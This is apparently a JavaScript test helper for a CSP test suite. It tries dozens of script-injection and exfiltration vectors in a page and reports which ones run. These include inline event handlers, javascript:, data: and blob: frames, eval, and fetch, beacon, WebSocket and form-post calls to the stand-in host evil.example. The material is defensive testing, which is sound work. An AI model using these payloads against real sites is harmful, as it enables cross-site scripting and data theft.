// Runs in a screen of the product, in csp.spec.ts: tries by every way to have something run, to fetch, or to lead
// elsewhere, as text that got into the page would. Gives the names of the ways that worked.

const evil = 'https://evil.example'

const put = (html) => {
  const place = document.body.appendChild(document.createElement('div'))
  place.innerHTML = html
  return place
}

const element = (name, attributes, text = '') => {
  const made = document.createElement(name)
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
  made.textContent = text
  document.body.append(made)
  return made
}

const run = (name) => `globalThis.ran.push('${name}')`
const blobOf = (text, type) => URL.createObjectURL(new Blob([text], { type }))

/** Functions that the page calls by name, as a text would. */
const named = (name) => Reflect.get(globalThis, name)

/** An exception means a refusal, as expected. */
const tried = async (act) => {
  try {
    await act()
  } catch (error) {
    if (!(error instanceof Error)) throw error
  }
}

const clicked = (name, href) => {
  const link = element('a', { href }, name)
  link.click()
  link.remove()
}

const ways = {
  'inline script': (name) => element('script', {}, run(name)),
  'inline module': (name) => element('script', { type: 'module' }, run(name)),
  'script of a nonce': (name) => element('script', { nonce: 'a' }, run(name)),
  'image handler': (name) => put(`<img src="/nothing.png" onerror="${run(name)}">`),
  'svg handler': (name) => put(`<svg onload="${run(name)}"></svg>`),
  'click handler': (name) => put(`<button onclick="${run(name)}">x</button>`).firstElementChild.click(),
  'focus handler': (name) => put(`<input onfocus="${run(name)}">`).firstElementChild.focus(),
  'toggle handler': (name) => put(`<details open ontoggle="${run(name)}"><summary>x</summary></details>`),
  'handler property by attribute': (name) => element('p', { onclick: run(name) }).click(),
  'javascript link': (name) => clicked(name, `javascript:${run(name)}`),
  'javascript frame': (name) => element('iframe', { src: `javascript:parent.${run(name).replace('globalThis.', '')}` }),
  'srcdoc frame': (name) => element('iframe', { srcdoc: `<script>parent.${run(name).replace('globalThis.', '')}</script>` }), // prettier-ignore
  'data frame': (name) =>
    element('iframe', { src: `data:text/html,<script>parent.postMessage('${name}','*')</script>` }),
  'blob frame': (name) => element('iframe', { src: blobOf(`<script>parent.${run(name).replace('globalThis.', '')}</script>`, 'text/html') }), // prettier-ignore
  'data script': (name) => element('script', { src: `data:text/javascript,${run(name)}` }),
  'blob script': (name) => element('script', { src: blobOf(run(name), 'text/javascript') }),
  'remote script': () => element('script', { src: `${evil}/script.js` }),
  'answer of the api as script': () => element('script', { src: '/api/health/live' }),
  eval: (name) => tried(() => named('eval')(run(name))),
  'function of text': (name) => tried(() => Reflect.construct(named('Function'), [run(name)])()),
  'timer of text': (name) => tried(() => named('setTimeout')(run(name), 0)),
  'import of data': (name) => tried(() => import(`data:text/javascript,${run(name)}`)),
  'import of a blob': (name) => tried(() => import(blobOf(run(name), 'text/javascript'))),
  'worker of a blob': (name) => tried(() => new Worker(blobOf('postMessage(1)', 'text/javascript')).addEventListener('message', () => globalThis.ran.push(name))), // prettier-ignore
  'worker of data': (name) => tried(() => new Worker('data:text/javascript,postMessage(1)').addEventListener('message', () => globalThis.ran.push(name))), // prettier-ignore
  object: (name) => element('object', { data: `data:text/html,<script>parent.postMessage('${name}','*')</script>` }),
  embed: (name) => element('embed', { src: blobOf(`<script>parent.postMessage('${name}','*')</script>`, 'text/html') }),
  'remote style': () => element('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
  'remote import of a style': () => element('style', {}, `@import url(${evil}/import.css);`),
  'remote font': () => element('style', {}, `@font-face{font-family:evil;src:url(${evil}/font.woff2)} body{font-family:evil}`), // prettier-ignore
  'remote fetch': () => tried(() => fetch(`${evil}/fetch`, { mode: 'no-cors' })),
  'remote beacon': () => tried(() => navigator.sendBeacon(`${evil}/beacon`, 'x')),
  'remote socket': () => tried(() => new WebSocket('wss://evil.example/socket')),
  'remote event source': () => tried(() => new EventSource(`${evil}/events`)),
  'remote frame': () => element('iframe', { src: `${evil}/frame` }),
  'remote media': () => element('video', { src: `${evil}/video.mp4`, preload: 'auto' }),
  'remote object': () => element('object', { data: `${evil}/object` }),
  'remote prefetch': () => element('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
  'remote preload': () => element('link', { rel: 'preload', as: 'script', href: `${evil}/preload.js` }),
  'remote manifest': () => element('link', { rel: 'manifest', href: `${evil}/manifest.json` }),
  'picture in the clear': () => element('img', { src: 'http://evil.example/pixel.gif' }),
  ping: () => {
    const link = element('a', { href: '#x', ping: `${evil}/ping` }, 'ping')
    link.click()
    link.remove()
  },
  'form to elsewhere': () => {
    const form = element('form', { action: `${evil}/form`, method: 'post', target: '_self' })
    form.submit()
  },
  'base of elsewhere': (name) => {
    element('base', { href: `${evil}/` })
    if (document.baseURI.startsWith(evil)) globalThis.ran.push(name)
  },
}

globalThis.ran = []
addEventListener('message', ({ data }) => {
  if (typeof data === 'string' && data in ways) globalThis.ran.push(data)
})

async function injectEach() {
  for (const [name, way] of Object.entries(ways)) await way(name)
  await new Promise((done) => setTimeout(done, 1000))
  return { tried: Object.keys(ways), ran: globalThis.ran }
}

/** From a timer: what a debugger evaluates itself is let through. */
globalThis.injectAll = () =>
  new Promise((done) => {
    setTimeout(() => done(injectEach()))
  })
